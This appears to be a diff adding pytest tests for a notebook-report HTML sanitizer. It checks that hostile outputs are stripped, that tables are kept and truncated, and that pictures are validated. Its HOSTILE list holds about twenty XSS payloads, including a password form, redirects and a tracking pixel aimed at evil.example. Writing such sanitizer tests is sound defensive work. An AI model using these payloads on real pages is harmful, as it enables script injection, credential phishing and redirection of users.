@@ -1,0 +1,177 @@
+"""Outputs of notebooks that try to act, to lie, or to burst the page."""
+
+import base64
+import json
+import struct
+from html.parser import HTMLParser
+
+import pytest
+
+from nbmlops.report import sanitize
+
+PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", 3, 2) + b"\x08\x02\x00\x00\x00" + bytes(12)
+ALLOWED_ATTRIBUTES = {"colspan", "rowspan", "scope"}
+
+
+class Walk(HTMLParser):
+    """Collect tags, attributes and the depth at the end."""
+
+    def __init__(self, markup):
+        super().__init__()
+        self.tags, self.attributes, self.depth = set(), set(), 0
+        self.feed(markup)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self.depth += tag != "br"
+
+    def handle_endtag(self, tag):
+        self.depth -= 1
+
+
+def shown(data, kind="display_data"):
+    return sanitize.pieces({"output_type": kind, "data": data, "metadata": {}}, "cell 1")
+
+
+HOSTILE = {
+    "script": "<script>alert(1)</script><p>ok</p>",
+    "script in capitals, unclosed": "<p>ok</p><SCRIPT>alert(1)",
+    "handler": '<img src="x" onerror="alert(1)"><p onclick="alert(1)">ok</p>',
+    "svg script": "<svg><script>alert(1)</script><a href='javascript:1'>x</a></svg><p>ok</p>",
+    "svg animation": '<svg><animate onbegin="alert(1)" attributeName="x"/></svg><p>ok</p>',
+    "math breakout": "<p>ok</p><math><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=1&gt;'>",
+    "style": "<style>* { display: none }</style><p>ok</p>",
+    "style breakout": "</style></details></section></main><p>ok</p>",
+    "javascript link": '<p>ok</p><a href="javascript:alert(1)">x</a>',
+    "data link": '<p>ok</p><a href="data:text/html,<script>alert(1)</script>">x</a>',
+    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>ok</p>',
+    "form": '<form action="http://evil.example"><input name="password"><button>Sign</button></form><p>ok</p>',
+    "object": '<object data="x.swf"></object><embed src="x"><p>ok</p>',
+    "base and meta": '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><p>ok</p>',
+    "fake banner": '<div class="answer good" style="position:fixed"><h1 id="question">Approved</h1></div><p>ok</p>',
+    "remote picture": '<img src="http://evil.example/pixel.png" srcset="//evil.example 2x"><p>ok</p>',
+    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><p>ok</p>",
+    "template": "<template><script>alert(1)</script></template><p>ok</p>",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>ok</p>',
+    "wide cell": '<table><tr><td colspan="99999" rowspan="-1" background="//evil.example">ok</td></tr></table>',
+}
+
+
+@pytest.mark.parametrize("markup", HOSTILE.values(), ids=HOSTILE)
+def test_hostile_html_keeps_its_text_and_loses_everything_else(markup):
+    clean, _ = sanitize.clean_html(markup)
+    walk = Walk(clean)
+    assert walk.tags <= sanitize.TAGS
+    assert walk.attributes <= ALLOWED_ATTRIBUTES
+    assert walk.depth == 0
+    assert "ok" in clean
+    for word in ("alert", "evil", "javascript", "onerror", "position", "99999"):
+        assert word not in clean
+
+
+def test_a_heading_becomes_a_bold_paragraph():
+    assert sanitize.clean_html("<h1 class='x'>Approved</h1>")[0] == "<p><strong>Approved</strong></p>"
+
+
+def test_a_table_keeps_its_structure():
+    markup = '<table border="1" class="dataframe"><thead><tr><th colspan="2" scope="col">a</th></tr></thead></table>'
+    assert sanitize.clean_html(markup)[0] == '<table><thead><tr><th colspan="2" scope="col">a</th></tr></thead></table>'
+
+
+def test_hidden_characters_in_html_become_visible():
+    assert (
+        sanitize.clean_html("<p>a&#8238;b&#x200b;</p>")[0]
+        == "<p>a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}</p>"
+    )
+
+
+def test_a_huge_table_is_cut_at_a_row_and_says_so():
+    found = shown({"text/html": "<table>" + "<tr><td>1234567890</td></tr>" * 50_000 + "</table>"})
+    assert [p.kind for p in found] == ["html", "note"]
+    assert len(found[0].content) <= sanitize.MAX_HTML + 100
+    assert found[0].content.endswith("</tr></tbody></table>")
+    assert "left out" in found[1].content
+
+
+def test_html_with_nothing_left_falls_back_to_text():
+    found = shown({"text/html": "<script>plot()</script>", "text/plain": "Figure()"})
+    assert [(p.kind, p.content) for p in found] == [("text", "Figure()")]
+
+
+def test_active_forms_are_named_in_a_note():
+    found = shown({"application/javascript": "alert(1)", "application/vnd.plotly.v1+json": {}})
+    assert [p.kind for p in found] == ["note"]
+    assert "application/javascript" in found[0].content
+    assert "alert" not in found[0].content
+
+
+def test_our_own_objects_are_shown_as_their_text():
+    data = {"application/vnd.nbmlops.run.v1+json": {}, "text/html": "<div style='x'>card</div>", "text/plain": "run ok"}
+    assert next((p.kind, p.content) for p in shown(data)) == ("text", "run ok")
+
+
+def test_text_loses_colours_and_is_cut():
+    found = sanitize.pieces({"output_type": "stream", "text": ["\x1b[31mred\x1b[0m\n", "x" * 5000]})
+    assert found[0].content.startswith("red\n")
+    assert len(found[0].content) == sanitize.MAX_TEXT
+    assert "3,004 more characters" in found[1].content
+
+
+def test_an_error_keeps_its_end():
+    lines = ["line\n"] * 2000 + ["ValueError: the reason"]
+    found = sanitize.pieces({"output_type": "error", "ename": "ValueError", "evalue": "x", "traceback": lines})
+    assert found[0].content.endswith("ValueError: the reason")
+
+
+def test_a_progress_bar_is_its_last_state():
+    found = sanitize.pieces({"output_type": "stream", "text": " 10%\r 50%\r100%\ndone\n"})
+    assert found[0].content == "100%\ndone"
+
+
+def test_a_picture_is_encoded_again():
+    encoded = base64.encodebytes(PNG).decode()
+    found = shown({"image/png": encoded, "text/plain": "<Figure>", "text/html": "<p>other</p>"})
+    assert found[0].kind == "image"
+    assert base64.b64decode(found[0].content.removeprefix("data:image/png;base64,")) == PNG
+    assert found[0].alt == "<Figure>"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"<svg onload=alert(1)>",
+        b"GIF89a",
+        b"",
+        PNG[:16] + struct.pack(">II", 90_000, 2) + PNG[24:],
+        PNG + bytes(400_000),
+    ],
+    ids=["svg", "gif", "empty", "too wide", "too large"],
+)
+def test_what_is_no_picture_or_too_large_is_a_note(content):
+    found = shown({"image/png": base64.b64encode(content).decode()})
+    assert [p.kind for p in found] == ["note"]
+
+
+def test_a_picture_that_is_no_base64_is_a_note():
+    assert shown({"image/jpeg": '"><script>alert(1)</script>'})[0].kind == "note"
+
+
+def test_a_drawing_is_only_ever_an_image_source():
+    found = shown({"image/svg+xml": "<svg><script>alert(1)</script></svg>"})
+    assert found[0].kind == "image"
+    assert found[0].content.startswith("data:image/svg+xml;base64,")
+
+
+@pytest.mark.parametrize("content", [b"", b"not json", b"[]", b'{"cells": 3}', b'{"cells": [1]}', b"\xff\xfe"], ids=str)
+def test_what_is_no_notebook_says_so(content):
+    found = sanitize.cells(content)
+    assert len(found) == 1
+    assert found[0].pieces[0].kind == "note"
+
+
+def test_a_large_notebook_stops_at_its_budget_with_a_note():
+    cell = {"cell_type": "code", "metadata": {}, "source": "x = 1\n" * 500, "outputs": []}
+    found = sanitize.cells(json.dumps({"cells": [cell] * 500}).encode())
+    assert sum(len(c.source) for c in found) <= sanitize.MAX_NOTEBOOK
+    assert f"Cells {found[-1].number} to 500 are left out" in found[-1].pieces[0].content
